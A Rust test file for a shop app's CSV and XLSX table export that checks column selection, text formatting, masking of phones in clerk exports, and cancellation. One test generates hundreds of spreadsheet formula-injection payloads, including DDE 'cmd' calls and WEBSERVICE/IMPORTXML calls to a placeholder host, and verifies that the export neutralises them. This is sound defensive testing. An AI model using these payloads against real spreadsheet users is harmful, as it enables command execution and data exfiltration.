//! Whole tables as workbooks, and as text beside them.

use crate::invented::Invented;
use crate::workbook::{self, Sheet};
use rusqlite::Connection;
use serde_json::{Value, json};
use shuke_tests::{TestShop, shop};
use std::collections::BTreeSet;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

fn with(mut args: Value, more: &Value) -> Value {
    args.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    args
}

fn export(t: &mut TestShop, table: &str, ending: &str, more: Value) -> PathBuf {
    let path = t.folder.path().join(format!("{table}.{ending}"));
    let done = t.ok("export_table", with(json!({"table": table, "path": path}), &more));
    assert_eq!(done["bytes"], std::fs::metadata(&path).unwrap().len());
    path
}

fn sheet(t: &mut TestShop, table: &str, more: Value) -> Sheet {
    workbook::read(&export(t, table, "xlsx", more))
}

fn text(t: &mut TestShop, table: &str, more: Value) -> Vec<csv::StringRecord> {
    let raw = std::fs::read(export(t, table, "csv", more)).unwrap();
    csv::ReaderBuilder::new().has_headers(false).from_reader(&raw[3..]).records().map(|row| row.unwrap()).collect()
}

const TABLES: [&str; 5] = ["customers", "visits", "lines", "points", "tasks"];

#[test]
fn a_workbook_says_the_same_as_the_text_cell_by_cell() {
    let mut shop = Invented::new(7, "2026-12-07");
    shop.live(10, 4);
    let mut t = shop.t;
    let mut kinds = BTreeSet::new();
    for table in TABLES {
        let text = text(&mut t, table, json!({}));
        let sheet = sheet(&mut t, table, json!({}));
        assert!(text.len() > 1 && sheet.rows.len() == text.len(), "{table}");
        for (said, row) in text.iter().zip(&sheet.rows) {
            for (column, said) in said.iter().enumerate() {
                let Some(cell) = row.get(&column) else {
                    assert_eq!(said, "", "{table} {column}");
                    continue;
                };
                let format = sheet.formats[cell.style].as_str();
                kinds.insert(format.to_owned());
                let shown = match format {
                    "@" => cell.text.clone(),
                    "yyyy\\-mm\\-dd" => workbook::day(&cell.text),
                    "hh:mm:ss" => workbook::time(&cell.text),
                    "General" | "#,##0.00" => cell.text.clone(),
                    other => panic!("a format nobody knows: {other}"),
                };
                assert_eq!(cell.kind == "inlineStr", format == "@");
                // The text has its guard against formulas, the workbook needs none.
                assert!(said == shown || said == format!("'{shown}"), "{table} {column}: {said:?} and {shown:?}");
            }
        }
    }
    assert_eq!(kinds.len(), 5, "{kinds:?}");
}

#[test]
fn phones_and_numbers_of_cards_are_text_and_the_headings_stay_in_sight() {
    let mut t = shop();
    let fields = json!({"name": "单晓燕", "phones": ["013805714217", "0571-88001234"], "member_no": "000123"});
    t.ok("create_customer", json!({"fields": fields, "confirm_phone": false, "answers": [], "tags": []}));
    let sheet = sheet(&mut t, "customers", json!({}));
    for (name, kept) in [("member_no", "000123"), ("phone", "013805714217"), ("phone_2", "0571-88001234")] {
        let cell = sheet.cell(1, name);
        assert_eq!((cell.text.as_str(), cell.kind.as_str(), sheet.formats[cell.style].as_str()), (kept, "inlineStr", "@"));
    }
    assert_eq!(sheet.formats[sheet.cell(1, "joined").style], "yyyy\\-mm\\-dd");
    assert_eq!(workbook::day(&sheet.cell(1, "joined").text), "2026-11-21");
    assert!(sheet.xml.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#));
    assert_eq!(sheet.xml.matches("<col ").count(), sheet.rows[0].len());
}

/// Everything that has ever made a spreadsheet reckon, call or fetch, begun in every way a cell can begin.
fn payloads() -> Vec<String> {
    const SIGNS: [&str; 13] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
    const BODIES: [&str; 9] = [
        "1+1",
        "SUM(A1:A9)",
        "cmd|'/c calc'!A0",
        "HYPERLINK(\"http://x.example\",\"点\")",
        "WEBSERVICE(\"http://x.example/\"&A1)",
        "IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
        "DDE(\"cmd\";\"/c\";\"x\")",
        "2+3,4\"5",
        "10+20+cmd|' /C notepad'!'A1'",
    ];
    const BEFORE: [&str; 4] = ["", " ", "'", "\u{3000}"];
    let mut all = Vec::new();
    for sign in SIGNS {
        for body in BODIES {
            for before in BEFORE {
                all.push(format!("{before}{sign}{body}"));
            }
        }
    }
    all.extend(["\t=1", "\r=1", "\n=1", "\u{FEFF}=1", "\u{200B}@x", "x\n=1+1", "<f>1+1</f>", "_x003D_1+1", "]]>=1"].map(str::to_owned));
    all
}

/// The fields of each record of a text file, with whether they stood in quotes.
fn quoted(text: &str) -> Vec<Vec<(bool, String)>> {
    let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), (false, String::new()));
    let (mut inside, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match c {
            '"' if inside && chars.peek() == Some(&'"') => field.1.push(chars.next().unwrap()),
            '"' => (inside, field.0) = (!inside, true),
            ',' if !inside => record.push(std::mem::take(&mut field)),
            '\r' if !inside => {}
            '\n' if !inside => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            c => field.1.push(c),
        }
    }
    assert!(!inside && record.is_empty());
    records
}

#[test]
fn no_cell_of_hostile_words_is_a_formula_and_amounts_stay_numbers() {
    let payloads = payloads();
    assert!(payloads.len() > 460, "{}", payloads.len());
    let t = shop();
    let path = t.path();
    drop(t.shop);
    let db = Connection::open(&path).unwrap();
    db.execute("INSERT INTO visit (id, visit_no, at, day, kind) VALUES (1, 'V1', 1779000000000, '2026-11-16', 'purchase')", []).unwrap();
    let mut sum = 0;
    for (n, payload) in payloads.iter().enumerate() {
        let n = i64::try_from(n).unwrap();
        let amount = (n * 7919) % 100_000 - 50_000;
        sum += amount;
        let line =
            "INSERT INTO visit_line (visit_id, line_no, style_no, name, color, qty, price, amount) VALUES (1, ?1, ?2, ?2, ?2, 1, ?3, ?3)";
        db.execute(line, rusqlite::params![n + 1, payload, amount]).unwrap();
    }
    db.execute("UPDATE visit SET total = ?1, pieces = ?2", [sum, i64::try_from(payloads.len()).unwrap()]).unwrap();
    drop(db);
    let shop = shuke_core::shop::Shop::open(&path, Box::new(Arc::clone(&t.clock))).unwrap();
    let mut t = TestShop { shop, clock: t.clock, folder: t.folder };

    let raw = std::fs::read_to_string(export(&mut t, "lines", "csv", json!({}))).unwrap();
    let records = quoted(raw.trim_start_matches('\u{FEFF}'));
    let place = |name: &str| records[0].iter().position(|(_, text)| text == name).unwrap();
    let mut total = 0;
    for (record, payload) in records[1..].iter().zip(&payloads) {
        for name in ["style_no", "name", "color"] {
            let (is_quoted, text) = &record[place(name)];
            let seen = text.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '\u{FEFF}' | '\u{200B}'));
            assert!(is_quoted, "{payload:?}");
            assert!(
                !seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']),
                "{payload:?} became {text:?}"
            );
        }
        let (is_quoted, amount) = &record[place("amount")];
        assert!(!is_quoted);
        total += amount.replace('.', "").parse::<i64>().unwrap();
    }
    assert_eq!((total, records.len()), (sum, payloads.len() + 1));

    let sheet = sheet(&mut t, "lines", json!({}));
    assert!(!sheet.xml.contains("<f>") && !sheet.xml.contains("<f ") && !sheet.xml.contains("t=\"str\""));
    assert_eq!(workbook::parts(&t.folder.path().join("lines.xlsx")).len(), 6, "no part with links, macros or calls");
    let mut total = 0;
    for (n, payload) in payloads.iter().enumerate() {
        for name in ["style_no", "name", "color"] {
            let cell = sheet.cell(n + 1, name);
            assert_eq!((cell.kind.as_str(), sheet.formats[cell.style].as_str()), ("inlineStr", "@"), "{payload:?}");
            assert_eq!(cell.text, payload.replace('\r', " "), "what was typed is what is kept");
        }
        let cell = sheet.cell(n + 1, "amount");
        assert_eq!((cell.kind.as_str(), sheet.formats[cell.style].as_str()), ("", "#,##0.00"));
        total += cell.text.replace('.', "").parse::<i64>().unwrap();
    }
    assert_eq!(total, sum);
}

#[test]
fn columns_come_as_chosen_and_are_remembered() {
    let mut t = shop();
    let fields = json!({"name": "单晓燕", "phones": ["13805714217"]});
    t.ok("create_customer", json!({"fields": fields, "confirm_phone": false, "answers": [{"field": 20, "values": ["M"]}], "tags": []}));
    let all = t.ok("export_columns", json!({"table": "customers"}));
    let names = |answer: &Value| -> Vec<String> {
        let columns = answer["columns"].as_array().unwrap().iter();
        columns.filter(|one| one["is_chosen"] == true).map(|one| one["name"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(names(&all), text(&mut t, "customers", json!({}))[0].iter().collect::<Vec<_>>());
    assert!(names(&all).contains(&"profile.top_size".to_owned()));
    assert_eq!(all["columns"][0], json!({"name": "member_no", "label": "会员号", "is_chosen": true}));

    let wanted = json!(["phone", "name", "profile.top_size"]);
    let sheet = sheet(&mut t, "customers", json!({"columns": wanted, "headings": "words"}));
    assert_eq!(sheet.rows[0].values().map(|cell| cell.text.as_str()).collect::<Vec<_>>()[..2], ["手机", "姓名"]);
    assert_eq!((sheet.texts("手机"), sheet.texts("姓名")), (vec!["13805714217".to_owned()], vec!["单晓燕".to_owned()]));
    let again = t.ok("export_columns", json!({"table": "customers"}));
    assert_eq!(json!(names(&again)), wanted);
    assert_eq!((&again["format"], &again["headings"]), (&json!("xlsx"), &json!("words")));
    assert_eq!(again["columns"].as_array().unwrap().len(), all["columns"].as_array().unwrap().len());
    // Another table is chosen for itself, and all of a table disturbs no choice.
    text(&mut t, "customers", json!({}));
    assert_eq!(json!(names(&t.ok("export_columns", json!({"table": "customers"})))), wanted);
    assert_eq!(names(&t.ok("export_columns", json!({"table": "visits"}))).len(), text(&mut t, "visits", json!({}))[0].len());

    let path = t.folder.path().join("no.csv");
    for (columns, field) in [(json!(["name", "secret"]), "columns.1"), (json!(["name", "name"]), "columns.1"), (json!([]), "columns")] {
        let failure = t.err("export_table", json!({"table": "customers", "path": path, "columns": columns}));
        assert_eq!(failure.field.as_deref(), Some(field), "{failure:?}");
    }
    assert!(!path.exists());
}

#[test]
fn a_list_is_exported_as_it_stands_and_with_what_belongs_to_it() {
    let mut t = shop();
    for (n, name) in ["单晓燕", "曾敏", "仇丽", "解红"].iter().enumerate() {
        let fields = json!({"name": name, "phones": [format!("1380571421{n}")], "member_no": format!("M{n}")});
        let tags = if n == 3 { json!([]) } else { json!(["老客"]) };
        t.ok("create_customer", json!({"fields": fields, "confirm_phone": false, "answers": [], "tags": tags}));
        let visit = json!({"customer": n + 1, "kind": "purchase", "lines": [{"style_no": "A", "qty": 1, "price": format!("{}.00", 100 + (n * 7) % 5)}]});
        t.ok("record_visit", json!({"receipt": format!("receipt-{n}"), "visit": visit}));
    }
    t.ok(
        "record_visit",
        json!({"receipt": "receipt-walk", "visit": {"kind": "purchase", "lines": [{"style_no": "A", "qty": 1, "price": "9.00"}]}}),
    );
    let tag = t.ok("list_tags", json!({}))["tags"][0]["id"].clone();
    let list = json!({"filter": {"levels": [], "tags": [tag], "never_visited": false}, "sort": "spend"});
    let mut asked = list.clone();
    asked["limit"] = json!(50);
    let shown = t.ok("list_customers", asked)["rows"].as_array().unwrap().iter().map(|row| row["member_no"].clone()).collect::<Vec<_>>();
    let customers = sheet(&mut t, "customers", json!({"list": list}));
    assert_eq!(json!(customers.texts("member_no")), json!(shown));
    assert_eq!(shown.len(), 3);
    for table in ["visits", "lines", "points"] {
        let of: BTreeSet<String> = sheet(&mut t, table, json!({"list": list})).texts("member_no").into_iter().collect();
        assert_eq!(of.into_iter().collect::<Vec<_>>(), ["M0", "M1", "M2"], "{table}: nobody else's, and no walk-in");
    }
    let only = json!({"kind": "tag", "tags": [tag]});
    assert_eq!(sheet(&mut t, "customers", json!({"only": only})).rows.len(), 4);
    let path = t.folder.path().join("no.xlsx");
    let bad = json!({"filter": {"levels": [], "tags": [], "never_visited": false, "birthday_month": 13}, "sort": "spend"});
    let failure = t.err("export_table", json!({"table": "customers", "path": path, "list": bad}));
    assert_eq!((failure.code.as_str(), failure.field.as_deref()), ("out_of_range", Some("list.filter.birthday_month")));
    assert!(!path.exists());
}

#[test]
fn the_tasks_of_a_day_are_what_the_list_of_the_day_says() {
    let mut t = shuke_tests::shop_with(shuke_core::wire::settings::Trade::Clothing, true);
    let shown = t.ok("tasks_of", json!({}));
    let sheet = sheet(&mut t, "tasks", json!({"headings": "words"}));
    let shown = shown["tasks"].as_array().unwrap();
    assert!(shown.len() > 3);
    assert_eq!(sheet.rows.len() - 1, shown.len());
    for (n, one) in shown.iter().enumerate() {
        assert_eq!(sheet.texts("事由")[n], one["task"]["title"]);
        assert_eq!(workbook::day(&sheet.texts("哪天做")[n]), one["task"]["due"]);
        assert_eq!(json!(sheet.texts("姓名")[n]), one["task"]["customer"].get("name").cloned().unwrap_or(json!("")));
        assert!(!sheet.texts("为什么")[n].starts_with("care-why"));
    }
}

#[test]
fn the_kind_of_file_is_what_its_name_says_unless_it_is_said_otherwise() {
    let mut t = shop();
    let mut export = |name: &str, format: Value| {
        let path = t.folder.path().join(name);
        let done = shuke_core::ops::call(&mut t.shop, "export_table", json!({"table": "visits", "path": path, "format": format}));
        done.map(|_| std::fs::read(&path).unwrap()[..2].to_vec()).map_err(|failure| failure.field.unwrap_or_default())
    };
    assert_eq!(export("a.xlsx", Value::Null), Ok(b"PK".to_vec()));
    assert_eq!(export("A.XLSX", json!("xlsx")), Ok(b"PK".to_vec()));
    assert_eq!(export("a", json!("xlsx")), Ok(b"PK".to_vec()));
    assert_eq!(export("a.txt", Value::Null), Ok(b"\xEF\xBB".to_vec()));
    assert_eq!(export("a.csv", json!("xlsx")), Err("format".to_owned()));
    assert_eq!(export("b.xlsx", json!("csv")), Err("format".to_owned()));
    let kinds: Vec<Value> = t.ok("list_audit", json!({"action": "exported", "limit": 9}))["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["file"].clone())
        .collect();
    assert_eq!(json!(kinds), json!(["csv", "xlsx", "xlsx", "xlsx"]));
}

#[test]
fn a_clerk_takes_no_table_out_and_what_a_clerks_hand_writes_has_no_whole_phone() {
    let mut t = shop();
    t.ok("save_staff", json!({"name": "小林", "role": "clerk", "is_active": true}));
    let fields = json!({"name": "单晓燕", "phones": ["13805714217", "13805715318"]});
    t.ok("create_customer", json!({"fields": fields, "confirm_phone": false, "answers": [], "tags": []}));
    t.ok("set_secret", json!({"staff": 1, "secret": "春天的云裳开门了"}));
    t.ok("unlock", json!({"staff": 2}));
    for ending in ["csv", "xlsx"] {
        let path = t.folder.path().join(format!("mine.{ending}"));
        let request = json!({"table": "customers", "path": path});
        assert_eq!(t.err("export_table", request.clone()).code.as_str(), "owner_needed");
        assert!(!path.exists());
        // Should an operation of a clerk ever come to write a table: the writer itself hides what she may not see.
        shuke_core::export::export_table(&mut t.shop, serde_json::from_value(request).unwrap()).unwrap();
        let all = if ending == "xlsx" { workbook::read(&path).xml } else { std::fs::read_to_string(&path).unwrap() };
        assert!(all.contains("*******4217") && all.contains("*******5318"), "{all}");
        assert!(!all.contains("1380571"));
    }
}

#[test]
fn stopping_in_the_middle_leaves_no_file() {
    let mut t = shop();
    let path = t.path();
    drop(t.shop);
    let many = "WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 6000)
        INSERT INTO visit (visit_no, at, day, kind, pieces, total) SELECT 'N' || i, 1779000000000 + i, date('2010-01-01', i || ' days'), 'purchase', 1, i FROM n";
    Connection::open(&path).unwrap().execute_batch(many).unwrap();
    t.shop = shuke_core::shop::Shop::open(&path, Box::new(Arc::clone(&t.clock))).unwrap();
    let out = t.folder.path().join("out");
    std::fs::create_dir(&out).unwrap();
    for name in ["a.xlsx", "a.csv"] {
        let (progress, over) = (t.shop.progress(), Arc::new(AtomicBool::new(false)));
        let hand = std::thread::spawn({
            let over = Arc::clone(&over);
            move || {
                while !over.load(Ordering::Relaxed) {
                    progress.cancel();
                }
            }
        });
        let failure = t.err("export_table", json!({"table": "visits", "path": out.join(name)}));
        over.store(true, Ordering::Relaxed);
        hand.join().unwrap();
        assert_eq!(failure.code.as_str(), "cancelled");
        assert_eq!(std::fs::read_dir(&out).unwrap().count(), 0, "{name}");
    }
}
